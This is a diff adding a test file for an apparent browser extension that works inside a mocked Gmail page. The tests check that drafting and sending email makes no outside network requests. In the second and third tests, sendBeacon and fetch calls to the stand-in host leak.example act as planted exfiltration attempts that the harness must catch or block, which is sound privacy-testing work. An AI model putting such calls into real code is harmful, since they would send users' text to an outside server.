@@ -1,0 +1,54 @@
+import { expect, it } from 'vitest';
+import { openBrowser, seeInside } from './browser';
+import { restOn, untilMarked, write } from './drafting';
+import { gmailPage, inbox } from './pages/gmail';
+
+it('drafting, mending, sending and reading the popup makes no request but the page’s own', async () => {
+  const browser = await openBrowser({ standIns: [{ at: 'https://mail.google.com/**', html: gmailPage }] });
+  const page = await browser.context.newPage();
+  await page.goto(inbox);
+  await page.getByRole('button', { name: 'Compose' }).click();
+  await write(
+    page,
+    'We’ll circle back on the numbers.',
+    'The email was sent by accident. I’ll send the sheet by Friday.',
+  );
+  await untilMarked(page, ['We’ll circle back', 'sent by accident']);
+  const card = await restOn(page, 'We’ll circle back');
+  await card.getByRole('button', { name: 'Apply' }).click();
+  await untilMarked(page, ['sent by accident']);
+  await page.keyboard.press('Control+Enter');
+  await seeInside(page);
+  await page.getByRole('dialog', { name: 'Add to your promises?' }).getByRole('button', { name: /^Add/ }).click();
+  for (const name of ['popup', 'options', 'practice']) {
+    const own = await browser.context.newPage();
+    await own.goto(`${browser.origin}${name}.html`);
+    await own.getByRole('main').waitFor();
+    await own.close();
+  }
+  const requests = browser.requests.filter((request) => !request.includes(` ${browser.origin}`));
+  expect(requests).toEqual(['GET https://mail.google.com/mail/u/0/']);
+  expect(browser.problems).toEqual([]);
+  expect(await browser.close()).toEqual([]);
+});
+
+it('and a request would have been seen: a page that makes one is', async () => {
+  const asks = `${gmailPage}<script>navigator.sendBeacon('https://leak.example/beacon', 'words')</script>`;
+  const browser = await openBrowser({ standIns: [{ at: 'https://mail.google.com/**', html: asks }] });
+  const page = await browser.context.newPage();
+  await page.goto(inbox);
+  await expect
+    .poll(() => browser.requests)
+    .toEqual(['GET https://mail.google.com/mail/u/0/', 'POST https://leak.example/beacon']);
+  expect(await browser.close()).toEqual(['https://mail.google.com https://leak.example/beacon']);
+});
+
+it('and our own pages and background could not make one', async () => {
+  const browser = await openBrowser();
+  const own = await browser.context.newPage();
+  await own.goto(`${browser.origin}popup.html`);
+  const ask = `fetch('https://leak.example/').then(() => 'sent', () => 'stopped')`;
+  expect(await own.evaluate(ask)).toBe('stopped');
+  expect(await browser.inBackground(ask)).toBe('stopped');
+  expect(await browser.close()).toEqual([]);
+});
